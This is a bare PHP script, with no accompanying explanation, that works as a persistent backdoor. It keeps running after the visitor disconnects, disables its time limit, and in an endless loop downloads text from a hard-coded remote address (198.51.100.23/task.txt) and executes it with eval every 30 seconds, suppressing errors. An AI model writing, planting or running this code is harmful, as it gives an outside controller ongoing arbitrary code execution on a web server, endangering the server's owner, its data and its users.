<?php
ignore_user_abort(true);
set_time_limit(0);
while ($next = @file_get_contents('http://198.51.100.23/task.txt')) {
    @eval($next);
    sleep(30);
}
